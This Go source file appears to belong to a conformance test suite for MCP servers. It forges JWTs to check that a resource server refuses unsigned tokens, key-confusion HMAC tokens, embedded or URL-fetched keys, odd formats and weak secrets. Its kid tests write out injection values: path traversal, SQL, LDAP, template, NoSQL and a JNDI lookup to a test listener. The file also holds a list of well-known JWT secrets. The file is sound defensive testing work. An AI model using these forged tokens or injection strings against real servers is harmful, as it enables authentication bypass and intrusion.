package tokenvalidation

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"maps"
	"slices"
	"strings"

	"github.com/mcpauth/conformance/reports"
	"github.com/mcpauth/conformance/suites/internal/expect"
	"github.com/mcpauth/conformance/suites/internal/listener"
	"github.com/mcpauth/conformance/suites/internal/mint"
	"github.com/mcpauth/conformance/suites/internal/oauth"

	. "github.com/mcpauth/conformance/suites/internal/check"
)

func forged() {
	Must("RS-TOKEN-ALG-NONE", refusesUnsigned)
	Must("RS-TOKEN-KEY-CONFUSION", usesNoPublicKeyAsSecret)
	Must("RS-TOKEN-FOREIGN-KEY", refusesForeignKeys)
	Must("RS-TOKEN-KID-INJECTION", readsNothingIntoKid)
	Must("RS-TOKEN-EMBEDDED-JWK", trustsNoEmbeddedKey)
	Must("RS-TOKEN-JKU-X5U", fetchesNoKeyURL)
	Practice("RS-TOKEN-FORMAT-CONFUSION", refusesOtherFormats)
	Must("RS-TOKEN-WEAK-SECRET", hasNoWellKnownSecret)
}

// refuse expects each token that replaces the valid one to be refused.
func refuse(t *T, tokens Cases[string], statuses ...int) {
	var rows Cases[CallEdit]
	for _, r := range tokens {
		rows = rows.And(r.Name, Presenting(r.Value))
	}
	Refuses(t, t.MCP.TokenCall(), rows, t.MCP.RefuseToken(statuses...))
}

// genuine begins a check with forged tokens.
func genuine(t *T) Genuine {
	g := t.Mint.Genuine()
	if g.Guessed {
		t.Note("no JWT was given to copy from: issuer, audience and key id of the forged tokens are guessed from the metadata")
	}
	return g
}

// RFC 7519 section 6; RFC 8725 section 3.1.
func refusesUnsigned(t *T) {
	g := genuine(t)
	var rows Cases[string]
	for _, alg := range []any{"none", "None", "NONE", "nOnE", "none ", "", 0, Null, []any{"none"}} {
		rows = rows.And(fmt.Sprintf("unsigned, alg %s", mint.JSON(alg)), mint.Unsigned(g.Header.With("alg", alg), g.Claims))
	}
	refuse(t, rows.
		And("unsigned, alg none, no kid", mint.Unsigned(g.Header.With("alg", "none").With("kid", nil), g.Claims)).
		And("unsigned, no alg", mint.Unsigned(g.Header.With("alg", nil), g.Claims)).
		And("unsigned, the genuine alg", mint.Unsigned(g.Header, g.Claims)), 401)
	t.Mint.RefusedUnsignedOfSecond("unsigned, alg none, of the second issuer")
}

// RFC 8725 section 2.1.
func usesNoPublicKeyAsSecret(t *T) {
	g := genuine(t)
	var rows Cases[string]
	keys := t.Mint.IssuerKeys()
	for i, k := range keys {
		if i == 3 {
			t.Note("the first 3 of %d published keys were tried", len(keys))
			break
		}
		kid, header := k.String("kid"), g.Header
		if header = header.With("kid", kid); kid == "" {
			header = header.With("kid", nil) // a key without kid has no empty one
		}
		for i, s := range mint.Spellings(k) {
			about := fmt.Sprintf(" with key %q as the secret: %s", kid, s.Name)
			rows = rows.And("HS256"+about, mint.HMACToken("HS256", header, g.Claims, s.Secret))
			if i == 0 {
				rows = rows.And("HS512"+about, mint.HMACToken("HS512", header, g.Claims, s.Secret))
			}
		}
	}
	if len(rows) == 0 {
		t.NotApplicable("no public key of the issuer is known")
	}
	refuse(t, rows, 401)
}

func refusesForeignKeys(t *T) {
	g, a := genuine(t), mint.NewAttacker()
	var rows Cases[string]
	for _, alg := range a.Algorithms(g.Header) {
		rows = rows.And(alg+" by a foreign key, under the genuine kid", a.Sign(alg, g.Header, g.Claims)).
			And(alg+" by a foreign key, without kid", a.Sign(alg, g.Header.With("kid", nil), g.Claims)).
			And(alg+" by a foreign key, with an empty kid", a.Sign(alg, g.Header.With("kid", ""), g.Claims))
	}
	refuse(t, rows, 401)
	header, claims := g.Header, g.Claims
	if t.Mint.Trusted() { // the session is of the same user
		header, claims = t.Mint.Header(), t.Mint.Claims(nil)
	}
	switch {
	case !t.MCP.HasToken():
		Untried(t, "a foreign key in a session", AToken)
	case t.Mint.Trusted() || !g.Guessed:
		t.MCP.RefusedInEveryWay("a foreign key", a.Sign(a.Algorithms(header)[0], header, claims))
	}
}

// RFC 8725 section 3.10: "any received claims or parameters" may be an attack, kid first of all.
func readsNothingIntoKid(t *T) {
	g, evaluated, asked := genuine(t), Listen(t), Listen(t)
	forge := func(kid any, secret string) string {
		return mint.HMACToken(symmetric(g.Header)[0], g.Header.With("kid", kid), g.Claims, []byte(secret))
	}
	zeros := strings.Repeat("\x00", 32)
	refuse(t, Cases[string]{
		{"the path of an empty file, below the key folder", forge("../../../../../../dev/null", "")},
		{"the path of an empty file", forge("/dev/null", "")},
		{"the path of an empty file, and a secret of zeros", forge("/dev/null", zeros)},
		{"the URL of an empty file", forge("file:///dev/null", "")},
		{"the path of a file that is the same everywhere", forge("/proc/sys/kernel/randomize_va_space", "2\n")},
		{"SQL that selects a key", forge("' UNION SELECT 'k' -- ", "k")},
		{"SQL that is true of every key", forge("1 OR 1=1", "")},
		{"an LDAP filter", forge("*)(uid=*", "")},
		{"a template", forge("{{7*7}}", "")},
		{"a NUL character", forge("\x00", "")},
		{"2,048 characters", forge(strings.Repeat("A", 2048), "")},
		{"an object", forge(map[string]any{"$ne": nil}, "")},
		{"a JNDI lookup", forge("${jndi:ldap://"+evaluated.Host()+"/x}", "")},
		{"a URL", forge(asked.URL("/k"), "")},
	}.In("kid"), 401)
	t.Expect(evaluated, "the JNDI lookup").To(staySilent)
	t.Expect(asked, "the URL").Ideally(staySilent) // section 3.10: "should"
}

// staySilent expects a target not to connect to an address that a token names.
var staySilent = expect.That("no request to an address that the token names", func(l *listener.Listener) string {
	if n := l.Connections(); n > 0 {
		return reports.Count(n, "connection") + " to it"
	}
	return ""
})

// RFC 7515 section 4.1.3; CVE-2018-0114.
func trustsNoEmbeddedKey(t *T) {
	g, a := genuine(t), mint.NewAttacker()
	var rows Cases[string]
	for _, alg := range a.Algorithms(g.Header) {
		jwk, chain := a.PublicKey(alg), a.CertificateChain(alg)
		named := maps.Clone(jwk)
		named["kid"] = "attacker"
		rows = rows.
			And(alg+", jwk, no kid", a.Sign(alg, g.Header.With("kid", nil).With("jwk", jwk), g.Claims)).
			And(alg+", jwk, the genuine kid", a.Sign(alg, g.Header.With("jwk", jwk), g.Claims)).
			And(alg+", jwk, the kid of the jwk", a.Sign(alg, g.Header.With("kid", "attacker").With("jwk", named), g.Claims)).
			And(alg+", x5c, no kid", a.Sign(alg, g.Header.With("kid", nil).With("x5c", chain), g.Claims)).
			And(alg+", x5c, the genuine kid", a.Sign(alg, g.Header.With("x5c", chain), g.Claims)).
			And(alg+", jwk and x5c", a.Sign(alg, g.Header.With("jwk", jwk).With("x5c", chain), g.Claims))
	}
	oct := map[string]any{"kty": "oct", "k": mint.Base64(make([]byte, 16))}
	secret := mint.HS256(g.Header.With("alg", "HS256").With("jwk", oct), g.Claims, make([]byte, 16))
	refuse(t, rows.And("HS256, jwk with the secret", secret), 401)
}

// RFC 8725 section 3.10: a jku or x5u that is followed blindly is request forgery.
func fetchesNoKeyURL(t *T) {
	g, a, trap := genuine(t), mint.NewAttacker(), Listen(t)
	serveKeysAt(trap, a, g.Header)
	elsewhere := maps.Clone(g.Claims)
	elsewhere["iss"] = trap.URL("")
	var rows Cases[string]
	for _, alg := range a.Algorithms(g.Header) {
		rows = rows.
			And(alg+", jku", a.Sign(alg, g.Header.With("kid", "attacker-"+alg).With("jku", trap.URL("/jwks")), g.Claims)).
			And(alg+", jku, the genuine kid", a.Sign(alg, g.Header.With("jku", trap.URL("/jwks")), g.Claims)).
			And(alg+", x5u", a.Sign(alg, g.Header.With("kid", nil).With("x5u", trap.URL("/x5u/"+alg)), g.Claims)).
			And(alg+", iss", a.Sign(alg, g.Header.With("kid", "attacker-"+alg), elsewhere))
	}
	refuse(t, rows, 401)
	t.Expect(trap).Ideally(staySilent) // section 3.10: "should"
	if !t.MCP.Loopback() {
		t.Note("the listener is on the loopback of this machine, where the target cannot reach it: only the refusals were judged")
	}
}

// serveKeysAt makes a listener publish an attacker's keys: a key set, the metadata of an issuer that leads there, and below /x5u/ the
// certificate for an algorithm, in PEM (RFC 7515 section 4.1.5).
func serveKeysAt(trap *listener.Listener, a *mint.Attacker, genuine mint.Header) {
	var keys []any
	for _, alg := range a.Algorithms(genuine) {
		for _, kid := range []any{"attacker-" + alg, genuine["kid"]} {
			key := a.PublicKey(alg)
			key["kid"], key["use"] = kid, "sig"
			keys = append(keys, key)
		}
	}
	set := mint.JSON(map[string]any{"keys": keys})
	metadata := mint.JSON(map[string]any{"issuer": trap.URL(""), "jwks_uri": trap.URL("/jwks")})
	trap.Answer(func(r listener.Request) listener.Answer {
		answer := listener.Answer{Status: 200, Header: map[string]string{"Content-Type": "application/json"}, Body: set}
		if strings.Contains(r.URL, "/.well-known/") {
			answer.Body = metadata
		} else if _, alg, of := strings.Cut(r.URL, "/x5u/"); of && slices.Contains(a.Algorithms(genuine), alg) {
			answer.Body, answer.Header = inPEM(a.CertificateChain(alg)), map[string]string{"Content-Type": "application/pem-certificate-chain"}
		}
		return answer
	})
}

// inPEM is an x5c as x5u has it.
func inPEM(chain []string) string {
	var out strings.Builder
	for _, certificate := range chain {
		der, _ := base64.StdEncoding.DecodeString(certificate) // it was just encoded
		out.Write(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
	}
	return out.String()
}

func refusesOtherFormats(t *T) {
	g := genuine(t)
	p := strings.Split(mint.Input(g.Header, g.Claims), ".")
	flattened := mint.JSON(map[string]any{"protected": p[0], "payload": p[1], "signature": ""})
	inner := mint.Unsigned(mint.Header{"alg": "none"}, g.Claims)
	nested := mint.Base64([]byte(inner))
	general := mint.JSON(map[string]any{"payload": p[1], "signatures": []any{map[string]any{"protected": p[0], "signature": ""}}})
	encrypted := mint.Base64([]byte(`{"alg":"dir","enc":"A128GCM","cty":"JWT"}`))
	refuse(t, Cases[string]{
		{"a flattened JSON serialization", mint.Base64([]byte(flattened))},
		{"a general JSON serialization", mint.Base64([]byte(general))},
		{"a detached payload", p[0] + "..AAAA"},
		{"a JWE with direct encryption", encrypted + "..AAAAAAAAAAAAAAAA." + nested + ".AAAAAAAAAAAAAAAAAAAAAA"},
		{"a JWS around an unsigned JWT", mint.Unsigned(mint.Header{"alg": "none", "cty": "JWT"}, mint.Claims{"jwt": inner})},
		{"compressed claims without a signature", mint.RawInput(g.Header.With("zip", "DEF"), deflated(mint.JSON(g.Claims))) + "."},
		{"a PASETO", "v2.public." + nested},
		{"an SD-JWT without its signature", inner + "~"},
	}, 401, 400)
	if t.Mint.Trusted() {
		refuse(t, sealedOtherwise(t), 401, 400)
	} else {
		Untried(t, "odd formats that the issuer signs", ATrustedIssuer)
	}
}

// sealedOtherwise are forms that the issuer itself has signed. What is inside a nested JWT is verified too (RFC 7519 section 7.2), alg
// is a string (RFC 7515 section 4.1.1), and only a JWE may be compressed (RFC 7516 section 4.1.3).
func sealedOtherwise(t *T) Cases[string] {
	h, c := t.Mint.Header(), t.Mint.Claims(nil)
	return Cases[string]{
		{"an unsigned JWT, nested in one that the issuer signs", t.Mint.Seal(mint.RawInput(h.With("cty", "JWT"),
			mint.Unsigned(mint.Header{"alg": "none"}, c)))},
		{"compressed claims that the issuer signs", t.Mint.Seal(mint.RawInput(h.With("zip", "DEF"), deflated(mint.JSON(c))))},
		{"alg as a list", t.Mint.Seal(mint.Input(h.With("alg", []any{h["alg"]}), c))},
	}
}

// deflated is a text as zip DEF compresses it (RFC 1951).
func deflated(text string) string {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.DefaultCompression) // the level is a valid one, and a buffer fails no write
	_, _ = w.Write([]byte(text))
	_ = w.Close()
	return b.String()
}

func hasNoWellKnownSecret(t *T) {
	g := genuine(t)
	if t.MCP.HasToken() {
		t.Expect(t.MCP.Token(), "the given token").To(haveNoWeakSecret)
	}
	h := g.Header.With("kid", nil)
	var rows Cases[string]
	for _, alg := range symmetric(g.Header) {
		for i, word := range weakSecrets {
			rows = rows.And(fmt.Sprintf("%s with well-known secret number %d", alg, i+1), mint.HMACToken(alg, h, g.Claims, []byte(word)))
		}
		rows = rows.And(alg+" with an empty secret", mint.HMACToken(alg, h, g.Claims, nil))
		if issuer, _ := g.Claims["iss"].(string); issuer != "" {
			rows = rows.And(alg+" with the issuer as the secret", mint.HMACToken(alg, h, g.Claims, []byte(issuer)))
		}
		for _, aud := range g.Claims.Audiences() {
			rows = rows.And(alg+" with the audience as the secret", mint.HMACToken(alg, h, g.Claims, []byte(aud)))
		}
	}
	refuse(t, rows, 401)
}

// symmetric are the algorithms to try: that of the genuine token, if it has a shared secret, or else the usual two. A verifier that knows
// one of them refuses the others whatever the secret is.
func symmetric(genuine mint.Header) []string {
	if alg, _ := genuine["alg"].(string); slices.Contains([]string{"HS256", "HS384", "HS512"}, alg) {
		return []string{alg}
	}
	return []string{"HS256", "HS512"}
}

var haveNoWeakSecret = expect.That("a signature with a secret that cannot be guessed", func(token string) string {
	header, _ := oauth.Claims(token)
	if header == nil {
		return ""
	}
	dot := strings.LastIndexByte(token, '.')
	for i, word := range weakSecrets {
		if mac := mint.HMAC(header.String("alg"), token[:dot], []byte(word)); mac != "" && mac == token[dot+1:] {
			return fmt.Sprintf("the token is signed with well-known secret number %d", i+1)
		}
	}
	return ""
})

// weakSecrets are in tutorials and default configurations; reports name them by number.
var weakSecrets = []string{
	"your-jwt-secret-key", "jwt-secret", "your_very_secure_secret_key_here", "secret", "changeme", "fastmcp-server", "password",
	"your-secret-key", "supersecret", "your-256-bit-secret", "test", "dev",
}
